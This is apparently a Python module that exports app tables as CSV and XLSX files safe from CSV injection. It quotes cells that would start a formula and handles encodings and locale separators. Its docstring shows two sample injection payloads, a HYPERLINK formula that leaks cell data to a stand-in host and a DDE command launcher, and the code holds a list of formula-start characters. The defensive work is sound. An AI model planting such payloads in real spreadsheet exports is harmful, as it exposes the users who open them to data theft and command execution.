"""Tables as files for spreadsheets (CSV and XLSX), safe to open in Excel, LibreOffice or Google Sheets.

Every table the app shows can be downloaded. The grids' own "Download as CSV" wrote cells as typed, so
a region, an actor or an uploaded file's cell such as `=HYPERLINK("http://host/?"&A1;"x")` or
`+cmd|' /C calc'!A0` became a live formula in the spreadsheet of whoever opened the file (CSV
injection, PITFALLS §8). Here every text cell that a spreadsheet would read as a formula — one whose
first character, after any leading blanks, is `=`, `+`, `-`, `@`, a tab or a carriage return (the OWASP
"CSV Injection" list; their full-width forms too) — gets a single quote `'` in front, OWASP's advice;
numbers stay numbers, so sums still work. Headers are treated the same way (an uploaded file's headers
are the user's text).

The CSV is UTF-8 with a byte-order mark, the one sign Excel takes to read it as UTF-8 rather than the
Windows code page (Cyrillic and Kazakh were garbled without it), with CRLF line ends (RFC 4180). Its
separators follow the reader's language, as Excel opens a CSV with the system's list separator: in
Russian and Kazakh a semicolon between fields and a decimal comma (a comma-separated file opened as
one column in a Russian Excel), in English a comma and a decimal point. The XLSX (openpyxl) needs no
import step in any locale: numbers, dates and text keep their types, and a text cell that would start
a formula carries Excel's own "quote prefix" style (what Excel sets when one types `'=1+2`): it shows
as typed, without a visible quote, and stays text when edited.

Text cells also lose what a spreadsheet cannot hold or would misdraw: bidi overrides (literal.plain),
the control characters XML 1.0 forbids (an XLSX with one does not open), and anything past Excel's
32,767 characters a cell.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time
from typing import Any

from policy_engine.literal import plain

FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")  # \uff1d… : full-width = + - @
QUOTE = "'"
MAX_CELL_CHARS = 32_767  # Excel's limit for the text of one cell
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # the rest of C0 is refused by XML 1.0
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def neutralise(text: str) -> str:
    """Text a spreadsheet shows as text: a leading `'` when it would otherwise start a formula."""
    stripped = text.lstrip(" \n\u00a0")
    if stripped[:1] in FORMULA_START:
        return QUOTE + text
    return text


def _text(value: str) -> str:
    text = _NOT_IN_XML.sub("\ufffd", plain(value))
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 1] + "…"
    return neutralise(text)


def cell(value: Any, labels: Mapping[Any, str] | None = None) -> str | int | float | bool | date | datetime | None:
    """One value as a spreadsheet cell: numbers, booleans and dates as they are, everything else as
    safe text. `labels` turns a stored choice (an id) into the word the grid shows; a list becomes the
    comma-separated labels of its items. Missing values (None, NaN, NaT) become an empty cell."""
    if value is None:
        return None
    if type(value).__module__ == "numpy":  # from a DataFrame: int64, float64, bool_ scalars, arrays of choices
        value = value.tolist()
    if isinstance(value, (list, tuple, set, frozenset)):
        return _text(", ".join(str(labels.get(v, v) if labels else v) for v in value if v is not None))
    if labels and isinstance(value, (str, int)) and value in labels:
        return _text(str(labels[value]))
    if isinstance(value, bool):
        return value
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if _missing(value):  # NaN, pandas NaT and NA
        return None
    if isinstance(value, datetime):  # pandas Timestamp too
        plain_dt = datetime(value.year, value.month, value.day, value.hour, value.minute, value.second)
        return plain_dt.date() if plain_dt.time() == time(0) else plain_dt
    if isinstance(value, date):
        return value
    return _text(str(value))


def _missing(value: Any) -> bool:
    try:
        return bool(value != value)  # NaN and NaT are not equal to themselves
    except (TypeError, ValueError):  # pandas NA refuses to be a bool
        return True


def cells(
    rows: Iterable[Mapping[str, Any]], columns: Sequence[str], labels: Mapping[str, Mapping[Any, str]] | None = None
) -> list[list]:
    """The rows as lists of cells in the order of `columns` (a missing key is an empty cell)."""
    labels = labels or {}
    return [[cell(row.get(c), labels.get(c)) for c in columns] for row in rows]


def _headers(headers: Sequence[str]) -> list[str]:
    return [_text(str(h)) for h in headers]


SEPARATORS = {"ru": (";", ","), "kk": (";", ",")}  # language -> (list separator, decimal mark); else "," "."


def table_csv(
    rows: Iterable[Mapping[str, Any]],
    columns: Sequence[str],
    headers: Sequence[str],
    labels: Mapping[str, Mapping[Any, str]] | None = None,
    lang: str = "en",
) -> bytes:
    """The table as CSV bytes: UTF-8 with BOM, a header row of `headers` (the user's language), then
    one line a row with the values of `columns`, with the separators of `lang` (SEPARATORS)."""
    if len(headers) != len(columns):
        raise ValueError(f"{len(headers)} headers for {len(columns)} columns")
    delimiter, decimal = SEPARATORS.get(lang, (",", "."))
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(_headers(headers))
    for row in cells(rows, columns, labels):
        writer.writerow(["" if v is None else _csv_value(v, decimal) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _csv_value(value: Any, decimal: str = ".") -> Any:
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, (date, datetime)):
        return value.isoformat(sep=" ") if isinstance(value, datetime) else value.isoformat()
    if isinstance(value, float):
        return repr(value).replace(".", decimal)  # repr: the shortest text that reads back as the same float
    return value  # int as Python writes it; text is already safe


def table_xlsx(
    rows: Iterable[Mapping[str, Any]],
    columns: Sequence[str],
    headers: Sequence[str],
    labels: Mapping[str, Mapping[Any, str]] | None = None,
    sheet: str = "table",
) -> bytes:
    """The table as an XLSX workbook of one sheet: a bold header row (frozen), then the rows; numbers,
    booleans and dates are typed cells, text is always a text cell (never a formula)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    if len(headers) != len(columns):
        raise ValueError(f"{len(headers)} headers for {len(columns)} columns")
    book = Workbook(write_only=True)
    ws = book.create_sheet(_SHEET_FORBIDDEN.sub("_", sheet).strip("'")[:31] or "table")
    ws.freeze_panes = "A2"
    bold = Font(bold=True)
    head = []
    for text in _headers(headers):
        c = _text_cell(ws, text)
        c.font = bold
        head.append(c)
    ws.append(head)
    for row in cells(rows, columns, labels):
        out = []
        for value in row:
            if isinstance(value, str):
                out.append(_text_cell(ws, value))
                continue
            c = WriteOnlyCell(ws, value=value)
            if isinstance(value, datetime):
                c.number_format = "yyyy-mm-dd hh:mm"
            elif isinstance(value, date):
                c.number_format = "yyyy-mm-dd"
            out.append(c)
        ws.append(out)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _text_cell(ws, text: str):
    """A text cell (never a formula: openpyxl would read a str starting with "=" as one). Text that
    `neutralise` quoted is written without the quote and with Excel's quote-prefix style instead."""
    from openpyxl.cell import WriteOnlyCell

    quoted = text.startswith(QUOTE) and neutralise(text[1:]) == text
    c = WriteOnlyCell(ws, value=text[1:] if quoted else text)
    c.data_type = "s"
    if quoted:
        c.quotePrefix = True
    return c


def grid_layout(
    columns: Sequence[str], column_config: Mapping[str, Any] | None = None, column_order: Sequence[str] | None = None
) -> tuple[list[str], list[str], dict[str, dict]]:
    """Which columns a grid shows, their headers and their choices' labels, read from the
    `column_config` a page gives st.dataframe / st.data_editor: a column configured as None is hidden
    (an internal id), a text is its header, and a column config (a dict) gives its `label` and, for a
    select column, the label of each option. A column without a config keeps its name, which for the
    pages' list-of-dicts tables is already the translated header."""
    config = column_config or {}
    shown, headers, labels = [], [], {}
    for name in column_order if column_order is not None else columns:
        if name not in columns or (name in config and config[name] is None):
            continue
        entry = config.get(name)
        header = name
        if isinstance(entry, str):
            header = entry
        elif isinstance(entry, Mapping):
            header = entry.get("label") or name
            options = (entry.get("type_config") or {}).get("options")
            if options and all(isinstance(o, Mapping) and "value" in o for o in options):
                labels[name] = {o["value"]: o.get("label", o["value"]) for o in options}
        shown.append(name)
        headers.append(str(header))
    return shown, headers, labels
